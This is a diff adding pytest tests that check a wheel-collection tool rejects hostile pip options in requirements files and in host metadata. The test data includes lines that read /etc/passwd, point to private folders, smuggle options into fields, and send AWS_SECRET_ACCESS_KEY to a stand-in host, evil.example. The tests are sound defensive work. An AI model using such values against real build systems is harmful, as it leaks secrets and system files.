@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import contextlib
 import hashlib
 import io
 import os
@@ -358,3 +359,58 @@ def test_a_failed_collection_leaves_nothing(collect, folder, tmp_path):
     with pytest.raises(wheels.WheelsError):
         collect({"requirements.txt": "gone\n"})
     assert os.listdir(tmp_path / "cache/wheels") == ["lock"]
+
+
+# ------------------------------------------------------------------------------------------------ what is not trusted
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "-r /etc/passwd --pre", "--requir=/etc/passwd", '"-r" /etc/passwd', "-f /etc", "--find-links=/root/private",
+        "--config-settings x=y", "--index-url https://evil.example/${AWS_SECRET_ACCESS_KEY}/simple",
+        "alpha @ ${HOME}/x",
+    ],
+)  # fmt: skip
+def test_requirements_read_no_file_and_no_variable_of_the_controller(collect, folder, monkeypatch, line):
+    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "secret-of-the-controller")
+    ran = []
+    monkeypatch.setattr(wheels.subprocess, "run", lambda *arguments, **_more: ran.append(arguments))
+    with pytest.raises(wheels.WheelsError) as caught:
+        collect({"requirements.txt": f"alpha\n{line}\n"})
+    assert not ran and "root:" not in str(caught.value) and "secret-of" not in str(caught.value)
+
+
+def test_a_variable_that_the_site_gives_pip_may_be_asked_for():
+    wheels.refuse_hostile_options(
+        ["--index-url https://${INDEX_USER}@pypi.example/simple", "a==1"], {"INDEX_USER": "x"}
+    )
+
+
+@pytest.mark.parametrize(
+    "wrong",
+    [{"machine": "../../x"}, {"glibc": "2.9999"}, {"abi": "cp313 --index-url"}, {"version": "3.13.5 --pre"}],
+)
+def test_a_host_cannot_describe_what_is_no_interpreter(collect, folder, monkeypatch, wrong):
+    monkeypatch.setattr(wheels.subprocess, "run", lambda *_arguments, **_more: pytest.fail("pip was started"))
+    host = interpreter(wrong.get("version", "3.13.5"))
+    host.update({name: value for name, value in wrong.items() if name != "version"})
+    with pytest.raises(wheels.WheelsError, match="describes its interpreter"):
+        collect({"requirements.txt": "alpha\n"}, host=host)
+
+
+def test_pip_is_told_to_require_hashes_where_the_requirements_have_them(collect, folder, monkeypatch):
+    asked, run = [], wheels.Pip.run
+
+    def note(self, program, arguments, **more):
+        asked.append("--require-hashes" in arguments)
+        return run(self, program, arguments, **more)
+
+    monkeypatch.setattr(wheels.Pip, "run", note)
+    file = next(path for path in folder.iterdir() if path.name.startswith("alpha-"))
+    with contextlib.suppress(wheels.WheelsError):
+        collect(
+            {"requirements.txt": f"{file.name.split('-')[0]}=={file.name.split('-')[1]} --hash=sha256:{hashed(file)}\n"}
+        )
+    collect({"requirements.txt": "alpha\n"})
+    assert asked[0] is True and asked[-1] is False
